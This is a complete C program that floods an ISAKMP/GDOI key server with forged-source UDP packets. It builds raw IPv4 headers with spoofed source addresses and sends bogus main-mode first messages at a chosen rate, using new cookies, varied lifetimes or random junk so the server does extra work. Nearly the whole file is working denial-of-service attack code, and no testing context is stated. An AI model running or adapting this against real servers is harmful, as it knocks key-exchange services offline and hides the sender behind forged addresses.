/* Sends bogus first messages of ISAKMP main mode as fast as told, from forged IPv4 addresses.
 *
 *   flood SERVER PORT FORGED COUNT RATE SECONDS KIND
 *
 * The sources are COUNT addresses from FORGED on, port 848, one after the other. RATE is messages a
 * second, SECONDS how long, or until SIGTERM. KIND: "same", a proposal that the key server takes, with a new cookie in
 * each message; "new", a lifetime in it that has not been offered before; "junk", random octets after
 * the cookie. Says at the end how many left and how long it took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define PORT 848

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t message[84];
} __attribute__((packed));

/* From CKY-R on: header, then an SA of one proposal with one transform: AES-CBC 256, SHA-256,
 * pre-shared key, group 19, lifetime in seconds. */
static const uint8_t REST[] = {
    0, 0, 0, 0, 0, 0, 0, 0, 1, 0x10, 2, 0, 0, 0, 0, 0, 0, 0, 0, 84,
    0, 0, 0, 56, 0, 0, 0, 2, 0, 0, 0, 0,
    0, 0, 0, 44, 1, 1, 0, 1,
    0, 0, 0, 36, 1, 1, 0, 0,
    0x80, 1, 0, 7, 0x80, 14, 1, 0, 0x80, 2, 0, 4, 0x80, 3, 0, 1, 0x80, 4, 0, 19,
    0x80, 11, 0, 1, 0x80, 12, 0x70, 0x80,
};

static uint64_t state;
static volatile sig_atomic_t stopped;

static void stop(int number)
{
    (void)number;
    stopped = 1;
}

static uint64_t next_random(void) /* xorshift64* */
{
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return state * 2685821657736338717ULL;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static void fill(struct packet *p, uint32_t source, const char *kind)
{
    uint64_t cookie = next_random() | 1;
    p->ip.saddr = htonl(source);
    memcpy(p->message, &cookie, 8);
    if (!strcmp(kind, "new")) {
        uint16_t lifetime = 60 + next_random() % 60000;
        p->message[82] = lifetime >> 8;
        p->message[83] = lifetime & 255;
    } else if (!strcmp(kind, "junk")) {
        for (int at = 28; at < 84; at += 8) {
            uint64_t octets = next_random();
            memcpy(p->message + at, &octets, at + 8 > 84 ? 84 - at : 8);
        }
    }
}

int main(int argc, char **argv)
{
    if (argc != 8) {
        fprintf(stderr, "flood SERVER PORT FORGED COUNT RATE SECONDS KIND\n");
        return 2;
    }
    uint32_t forged = ntohl(inet_addr(argv[3])), count = atoi(argv[4]);
    double rate = atof(argv[5]), seconds = atof(argv[6]), start = now(), lasted;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(argv[1])};
    struct packet packets[BATCH] = {0};
    struct iovec vectors[BATCH];
    struct mmsghdr headers[BATCH] = {0};
    uint64_t sent = 0;

    state = (uint64_t)(start * 1e9) | 1;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("raw socket");
        return 1;
    }
    for (int i = 0; i < BATCH; i++) {
        struct packet *p = &packets[i];
        p->ip.version = 4;
        p->ip.ihl = 5;
        p->ip.ttl = 64;
        p->ip.protocol = IPPROTO_UDP;
        p->ip.tot_len = htons(sizeof *p);
        p->ip.daddr = to.sin_addr.s_addr;
        p->udp.source = htons(PORT);
        p->udp.dest = htons(atoi(argv[2]));
        p->udp.len = htons(sizeof p->udp + sizeof p->message);
        memcpy(p->message + 8, REST, sizeof REST);
        vectors[i] = (struct iovec){p, sizeof *p};
        headers[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    signal(SIGTERM, stop);
    while ((lasted = now() - start) < seconds && !stopped) {
        if (sent > rate * lasted) {
            struct timespec pause = {0, 100000};
            nanosleep(&pause, NULL);
            continue;
        }
        for (int i = 0; i < BATCH; i++)
            fill(&packets[i], forged + (sent + i) % count, argv[7]);
        int done = sendmmsg(fd, headers, BATCH, 0);
        if (done > 0)
            sent += done;
        else if (errno != ENOBUFS && errno != EAGAIN) {
            perror("sendmmsg");
            return 1;
        }
    }
    printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, lasted);
    return 0;
}
